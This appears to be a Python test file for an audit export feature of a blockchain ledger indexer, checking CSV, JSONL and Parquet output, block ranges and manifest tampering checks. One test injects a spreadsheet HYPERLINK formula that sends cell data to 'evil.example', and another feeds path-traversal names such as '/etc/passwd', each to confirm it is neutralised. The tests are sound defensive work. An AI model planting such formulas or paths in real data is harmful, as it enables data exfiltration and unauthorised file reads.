"""Exports hold what the database holds, exactly, in the same bytes from both databases, whole or not."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sys
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, insert, select

from ledger.audit.errors import BadManifest, NoParquet, NotIndexedYet, UnknownTable
from ledger.audit.export import (
    MANIFEST,
    TABLES,
    Format,
    check_export,
    export,
    read_manifest,
    table_named,
)
from ledger.audit.export import writing as module
from ledger.audit.export.columns import ExportColumn, Kind, plain
from ledger.audit.export.formats import CsvWriter, JsonLinesWriter, ParquetWriter
from ledger.contracts.record import Deployment
from ledger.indexer import OtherHistory
from ledger.store import writing
from ledger.store.model.chain import EVENTS, blocks
from ledger.store.model.orders import ORDERS, PAYMENTS
from ledger.store.model.parties import PARTIES
from ledger.types import BlockNumber, TokenAmount
from tests.ledger.conftest import Indexed, index

TEXTS = (Format.CSV, Format.JSONL)


def digests(folder: Path) -> dict[str, str]:
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}


def lines(folder: Path, table: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / f"{table}.jsonl").read_text("ascii").splitlines()]


# ------------------------------------------------------------------------------------ what is in it


@pytest.mark.parametrize("format", Format)
def test_both_databases_give_the_same_bytes(
    format: Format, indexed: Indexed, indexed_by_postgres: Indexed, tmp_path: Path
) -> None:
    if format is Format.PARQUET:
        pytest.importorskip("pyarrow")
    height = BlockNumber(indexed.deployment.block_number + 300)
    for last in (None, height):
        one, other = tmp_path / f"one{last}", tmp_path / f"other{last}"
        export(indexed.engine, indexed.deployment, one, format, last=last)
        export(indexed_by_postgres.engine, indexed.deployment, other, format, last=last)
        assert digests(one) == digests(other)
        assert len(digests(one)) == len(TABLES) + 1 and not check_export(one)


def test_every_table_is_there_with_every_row(indexed: Indexed, tmp_path: Path) -> None:
    done = export(indexed.engine, indexed.deployment, tmp_path, Format.JSONL)
    with indexed.engine.connect() as connection:
        for one in done.manifest.tables:
            table = TABLES[one.table].table
            assert one.rows == connection.execute(select(func.count()).select_from(table)).scalar_one()
            assert one.rows == len(lines(tmp_path, one.table))
    assert done.rows > 2_000 and all(one.rows for one in done.manifest.tables)
    assert list(lines(tmp_path, "payment")[0]) == [one.name for one in TABLES["payment"].columns]


@pytest.mark.parametrize("format", TEXTS)
def test_values_are_the_rows_exactly(format: Format, indexed: Indexed, tmp_path: Path) -> None:
    """Read back by other readers, and compared with what the database gives."""
    export(indexed.engine, indexed.deployment, tmp_path, format)
    read = read_csv if format is Format.CSV else lines
    for name, table in TABLES.items():
        with indexed.engine.connect() as connection:
            keys = list(table.table.primary_key.columns)
            rows = connection.execute(select(table.table).order_by(*keys)).all()
        found = read(tmp_path, name)
        assert len(rows) == len(found)
        for row, told in zip(rows, found, strict=True):
            for column in table.columns:
                assert back(told[column.name], column) == shown(row[column.source], column), (name, column)


def read_csv(folder: Path, table: str) -> list[dict[str, Any]]:
    text = (folder / f"{table}.csv").read_bytes().decode()
    columns = {column.name: column for column in TABLES[table].columns}
    return [
        {name: from_cell(value, columns[name]) for name, value in row.items()}
        for row in csv.DictReader(io.StringIO(text, newline=""))
    ]


def from_cell(cell: str, column: ExportColumn) -> Any:
    if column.kind is Kind.TEXT:
        # Python's reader does not tell an empty cell from an empty text; no text column is nullable.
        assert not column.nullable
        return cell[1:] if cell.startswith("'") else cell
    if cell == "":
        return None
    if column.kind is Kind.BOOLEAN:
        return {"true": True, "false": False}[cell]
    return int(cell) if column.kind in (Kind.INTEGER, Kind.TIME) else cell


def back(value: Any, column: ExportColumn) -> Any:
    if value is None:
        return None
    match column.kind:
        case Kind.INTEGER | Kind.TIME | Kind.AMOUNT:
            assert not isinstance(value, float) and (column.kind is not Kind.AMOUNT or isinstance(value, str))
            return int(value)
        case Kind.BYTES:
            assert value.startswith("0x")
            return bytes.fromhex(value[2:])
        case Kind.UTC:
            return int(datetime.strptime(value, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC).timestamp())
        case _:
            return value


def shown(value: Any, column: ExportColumn) -> Any:
    if column.kind is Kind.UTC and (value is None or not 0 < value < 253_402_300_800):
        return None
    return value


def test_parquet_holds_the_same(indexed: Indexed, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    export(indexed.engine, indexed.deployment, tmp_path / "p", Format.PARQUET)
    export(indexed.engine, indexed.deployment, tmp_path / "j", Format.JSONL)
    for name, table in TABLES.items():
        found = parquet.read_table(tmp_path / "p" / f"{name}.parquet")
        for row, told in zip(found.to_pylist(), lines(tmp_path / "j", name), strict=True):
            for column in table.columns:
                value, wanted = row[column.name], told[column.name]
                if column.kind is Kind.UTC and value is not None:
                    value = value.strftime("%Y-%m-%dT%H:%M:%SZ")
                assert value == wanted or str(value) == wanted, (name, column, value, wanted)


# ------------------------------------------------------------------------------------ which blocks


def test_versions_are_those_that_held_in_the_blocks(indexed: Indexed, tmp_path: Path) -> None:
    with indexed.engine.connect() as connection:
        low, high = connection.execute(select(func.min(blocks.c.number), func.max(blocks.c.number))).one()
        rows = [row._mapping for row in connection.execute(select(ORDERS.table))]
        paid = list(connection.execute(select(PAYMENTS.table.c.block_number)).scalars())

    for first, last in (
        (low, high),
        (high, high),
        (low + 50, low + 200),
        (low + 199, low + 200),
        (None, low + 70),
    ):
        export(
            *(indexed.engine, indexed.deployment, tmp_path, Format.JSONL),
            tables=[TABLES["production_order"], TABLES["payment"]],
            first=first,
            last=last,
        )
        held = {
            ("0x" + row["order_id"].hex(), row["from_block"])
            for row in rows
            for block in range(first or low, last + 1)
            if row["from_block"] <= block and (row["to_block"] is None or row["to_block"] > block)
        }
        found = lines(tmp_path, "production_order")
        assert {(row["order_id"], row["from_block"]) for row in found} == held
        assert all(row["to_block"] is None or row["to_block"] <= last for row in found)
        happened = [row["block_number"] for row in lines(tmp_path, "payment")]
        assert happened == sorted(block for block in paid if (first or 0) <= block <= last)


def test_a_span_is_the_same_however_far_the_database_goes(indexed: Indexed, tmp_path: Path) -> None:
    """An auditor's export of last month's end is the same next month."""
    last = BlockNumber(indexed.deployment.block_number + 150)
    with index(indexed.bench, tmp_path / "shorter.sqlite", until=last) as shorter:
        export(shorter.engine, shorter.deployment, tmp_path / "then", Format.CSV)
    export(indexed.engine, indexed.deployment, tmp_path / "now", Format.CSV, last=last)
    assert digests(tmp_path / "then") == digests(tmp_path / "now")


# ------------------------------------------------------------------------------------ strangers' text

KINDS = (
    ExportColumn("text", Kind.TEXT, 0, True),
    ExportColumn("amount", Kind.AMOUNT, 1, False),
    ExportColumn("number", Kind.INTEGER, 2, False),
    ExportColumn("time", Kind.TIME, 3, False),
    ExportColumn("time_utc", Kind.UTC, 3, True),
)
ROWS = st.tuples(
    st.one_of(
        st.none(),
        st.text(),
        st.sampled_from(["=1+1", "+1", "-1", "@a", "'", "'=", "\t=", "\r", "", "\ud800"]),
    ),
    st.integers(-(2**256), 2**256),
    st.integers(-(2**63), 2**63 - 1),
    st.integers(0, 2**40),
)


def exact(text: str | None) -> str | None:
    return None if text is None else text.encode("utf-8", "backslashreplace").decode()


@given(st.lists(ROWS, max_size=8))
def test_any_text_and_number_survives_csv(rows: list[tuple[Any, ...]]) -> None:
    file = io.BytesIO()
    writer = CsvWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    text = file.getvalue().decode()
    found = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert found[0] == [column.name for column in KINDS]
    for row, cells in zip(rows, found[1:], strict=True):
        assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert (cells[0][1:] if cells[0].startswith("'") else cells[0]) == (exact(row[0]) or "")
        assert (int(cells[1]), int(cells[2]), int(cells[3])) == row[1:]


@given(st.lists(ROWS, max_size=8))
def test_any_text_and_number_survives_json(rows: list[tuple[Any, ...]]) -> None:
    file = io.BytesIO()
    writer = JsonLinesWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    found = [json.loads(line) for line in file.getvalue().decode("ascii").splitlines()]
    for row, told in zip(rows, found, strict=True):
        assert told["text"] == row[0] and told["amount"] == str(row[1])
        assert isinstance(told["number"], str) == (abs(row[2]) > 2**53) and int(told["number"]) == row[2]


@given(st.lists(ROWS, min_size=1, max_size=8))
def test_any_text_and_number_survives_parquet(rows: list[tuple[Any, ...]]) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    file = io.BytesIO()
    writer = ParquetWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    writer.end()
    for row, told in zip(rows, parquet.read_table(io.BytesIO(file.getvalue())).to_pylist(), strict=True):
        assert (told["text"], int(told["amount"]), told["number"]) == (exact(row[0]), *row[1:3])
        if told["time_utc"] is not None:
            assert int(told["time_utc"].timestamp()) == told["time"]


def test_a_profile_that_is_a_formula(copied: Indexed, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example?"&A1,"x")\n,\u202e'
    with writing(copied.engine) as connection:
        connection.execute(PARTIES.table.update().values(uri=hostile))
    for format in TEXTS:
        export(copied.engine, copied.deployment, tmp_path, format, [TABLES["party"]])
    assert {row["uri"] for row in read_csv(tmp_path, "party")} == {hostile}
    assert b"'=HYPERLINK" in (tmp_path / "party.csv").read_bytes()
    assert {row["uri"] for row in lines(tmp_path, "party")} == {hostile}


def test_amounts_of_78_digits(copied: Indexed, tmp_path: Path) -> None:
    most = TokenAmount(2**256 - 1)
    with writing(copied.engine) as connection:
        connection.execute(PAYMENTS.table.update().values(to_maker=most))
    export(copied.engine, copied.deployment, tmp_path, Format.JSONL, [TABLES["payment"]])
    assert {row["to_maker"] for row in lines(tmp_path, "payment")} == {str(most)}


def test_an_empty_table_is_a_header(copied: Indexed, tmp_path: Path) -> None:
    with writing(copied.engine) as connection:
        connection.execute(PAYMENTS.table.delete())
    formats = [*TEXTS, *([Format.PARQUET] if "pyarrow" in sys.modules else [])]
    for format in formats:
        done = export(copied.engine, copied.deployment, tmp_path, format, [TABLES["payment"]])
        assert [one.rows for one in done.manifest.tables] == [0] and not check_export(tmp_path)
    assert (tmp_path / "payment.csv").read_text().count("\n") == 1
    assert (tmp_path / "payment.jsonl").read_text() == ""


# ------------------------------------------------------------------------------------ whole or not at all


@pytest.mark.parametrize("error", [KeyboardInterrupt, RuntimeError])
def test_what_was_stopped_leaves_what_was_there(
    error: type[BaseException], indexed: Indexed, tmp_path: Path
) -> None:
    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, last=BlockNumber(100))
    before = digests(tmp_path)

    def stop(table: str, done: int, of: int) -> None:
        if table == "payment":
            raise error

    with pytest.raises(error):
        export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, progress=stop)
    assert digests(tmp_path) == before


@pytest.mark.parametrize("model", ["copied", "copied_by_postgres"])
def test_what_others_write_meanwhile_is_not_in_it(
    model: str, indexed: Indexed, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    mine: Indexed = request.getfixturevalue(model)
    done: list[str] = []

    def reorg(table: str, number: int, of: int) -> None:
        if not done:
            with writing(mine.engine) as connection:
                for one in TABLES.values():
                    connection.execute(one.table.delete())
            done.append(table)

    export(mine.engine, mine.deployment, tmp_path / "mine", Format.JSONL, progress=reorg)
    export(indexed.engine, indexed.deployment, tmp_path / "same", Format.JSONL)
    assert done and digests(tmp_path / "mine") == digests(tmp_path / "same")


def test_memory_stays_flat(copied: Indexed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No more rows are held at a time than a piece has."""
    most: list[int] = []

    class Counting(JsonLinesWriter):
        def write(self, rows: Any) -> None:
            most.append(len(rows))
            super().write(rows)

    monkeypatch.setattr(module, "AT_ONCE", 100)
    monkeypatch.setitem(module._WRITERS, Format.JSONL, Counting)
    with writing(copied.engine) as connection:
        row = connection.execute(select(EVENTS.table)).mappings().first()
        assert row is not None
        many = [{**row, "log_index": 10_000 + n} for n in range(5_000)]
        connection.execute(insert(EVENTS.table), many)
    done = export(copied.engine, copied.deployment, tmp_path, Format.JSONL, [TABLES["event"]])
    assert done.rows > 5_000 and max(most) == 100


# ------------------------------------------------------------------------------------ the manifest


def _remove(folder: Path) -> str:
    (folder / "payment.csv").unlink()
    return "payment.csv is missing"


def _lengthen(folder: Path) -> str:
    with (folder / "payment.csv").open("a") as file:
        file.write("\n")
    return "payment.csv was altered: it has"


def _flip(folder: Path) -> str:
    path = folder / "payment.csv"
    raw = bytearray(path.read_bytes())
    raw[-4] ^= 1
    path.write_bytes(raw)
    return "payment.csv was altered: its SHA-256"


def _swap(folder: Path) -> str:
    (folder / "payment.csv").write_bytes((folder / "withdrawal.csv").read_bytes())
    return "payment.csv was altered"


@pytest.mark.parametrize("alter", [_remove, _lengthen, _flip, _swap])
def test_what_differs_is_named(alter: Callable[[Path], str], indexed: Indexed, tmp_path: Path) -> None:
    tables = [TABLES["payment"], TABLES["withdrawal"]]
    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, tables)
    assert check_export(tmp_path) == check_export(tmp_path / MANIFEST) == []
    (found,) = (alter(tmp_path), check_export(tmp_path))[1:]
    assert len(found) == 1 and found[0].startswith("payment.csv")


def test_the_manifest_says_whose_and_as_of_when(indexed: Indexed, tmp_path: Path) -> None:
    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
    manifest = read_manifest(tmp_path)
    block = indexed.node.get_block(BlockNumber(manifest.as_of.number))
    assert manifest.as_of.hash == "0x" + block.hash.hex()
    assert manifest.deployment.contracts["OrderEscrow"] == indexed.bench.escrow.address
    assert manifest.tables[0].order == ("block_number", "log_index")


@pytest.mark.parametrize("name", ["../payment.csv", "/etc/passwd", "", ".", "a\\b"])
def test_a_manifest_that_reads_elsewhere_is_refused(name: str, indexed: Indexed, tmp_path: Path) -> None:
    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
    raw = json.loads((tmp_path / MANIFEST).read_text())
    raw["tables"][0]["file"] = name
    (tmp_path / MANIFEST).write_text(json.dumps(raw))
    with pytest.raises(BadManifest):
        check_export(tmp_path)


@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b"\xff", b'{"format": 1}', None])
def test_what_is_no_manifest_is_refused(content: bytes | None, tmp_path: Path) -> None:
    if content is not None:
        (tmp_path / MANIFEST).write_bytes(content)
    with pytest.raises(BadManifest, match="is no manifest"):
        check_export(tmp_path)


# ------------------------------------------------------------------------------------ what is wrong


def test_a_table_that_is_not_there() -> None:
    with pytest.raises(UnknownTable, match="did you mean payment"):
        table_named("payments")


def test_parquet_without_pyarrow(indexed: Indexed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(NoParquet, match=r"tallystick\[analysis\]"):
        export(indexed.engine, indexed.deployment, tmp_path, Format.PARQUET)
    assert list(tmp_path.iterdir()) == []


def test_another_deployments_history(indexed: Indexed, tmp_path: Path) -> None:
    other: Deployment = replace(indexed.deployment, chain_id=7)
    with pytest.raises(OtherHistory):
        export(indexed.engine, other, tmp_path, Format.CSV)
    with pytest.raises(NotIndexedYet):
        export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, last=BlockNumber(10**9))
